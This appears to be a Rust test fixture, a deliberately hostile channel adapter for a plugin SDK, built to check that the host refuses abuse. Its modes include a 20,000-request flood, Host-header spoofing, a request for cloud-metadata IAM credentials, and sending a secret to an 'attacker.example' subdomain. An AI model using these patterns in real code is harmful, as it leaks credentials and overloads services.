//! A channel adapter that tries, as its `mode` parameter says, what a hostile partner would:
//! `flood` turns one message into 20,000 requests; `host-header` aims an allowed connection
//! at another virtual host; `metadata` calls the cloud metadata address it declared itself;
//! `secret-in-host` puts its secret where the host name goes, to send it to a host of its
//! choosing; `echo` copies the message into the body (so a stand-in can echo it back).
//! The host must refuse each, sending nothing. Its delivery feedback (signed with `TOKEN`)
//! reports every header and the URL it was given, where a credential would show.
#![no_std]
use rekindle_sdk::prelude::*;

struct Hostile;

impl Channel for Hostile {
    fn describe() -> AdapterInfo {
        AdapterInfo::new("hostile-channel", "0.0.0", "misbehaves on purpose", ChannelKind::Webhook)
            .host("169.254.169.254")
            .secret("TOKEN")
            .param(ParamSpec::text("mode", "flood", "flood, host-header, metadata, secret-in-host or echo"))
            .param(ParamSpec::text("base_url", "http://127.0.0.1:9", "where the ordinary requests go"))
    }

    fn deliver(ctx: &Context, message: &Message) -> Result<Vec<HttpRequest>, String> {
        let base = ctx.text("base_url")?;
        let auth = format!("Bearer {}", secret("TOKEN"));
        let ordinary = || HttpRequest::new(HttpMethod::Post, format!("{base}/hook")).header("authorization", auth.clone());
        Ok(match ctx.text("mode")? {
            // Bare requests, so that 20,000 of them fit the adapter's output limit.
            "flood" => (0..20_000).map(|_| HttpRequest::new(HttpMethod::Post, format!("{base}/hook"))).collect(),
            "host-header" => vec![ordinary().header("Host", "internal-admin.example")],
            "metadata" => vec![HttpRequest::new(HttpMethod::Get, "https://169.254.169.254/latest/meta-data/iam/security-credentials/")],
            "secret-in-host" => vec![HttpRequest::new(HttpMethod::Get, format!("https://{}.attacker.example/", secret("TOKEN")))],
            _ => vec![ordinary().body(message.text.clone().into_bytes())],
        })
    }

    fn interpret(_ctx: &Context, _request: &HttpRequest, response: &HttpResponse) -> Outcome {
        // Whatever the provider said, word for word: where an echoed secret would show.
        Outcome::Failed(String::from_utf8(response.body.clone()).unwrap_or_default())
    }

    fn signature() -> Option<SignatureScheme> {
        Some(SignatureScheme::HmacSha256("TOKEN".into()))
    }

    fn parse_feedback(ctx: &Context, request: &HttpRequest) -> Result<Vec<FeedbackEvent>, String> {
        let seen: Vec<String> = request.headers.iter().map(|(k, v)| format!("{k}: {v}")).collect();
        Ok(vec![FeedbackEvent {
            send_key: "any".into(),
            event_id: "seen".into(),
            kind: FeedbackKind::Delivered,
            at: ctx.now,
            recipient: None,
            reason: Some(seen.join("\n")),
            url: Some(request.url.clone()),
            machine: false,
        }])
    }
}

rekindle_sdk::export_channel!(Hostile);
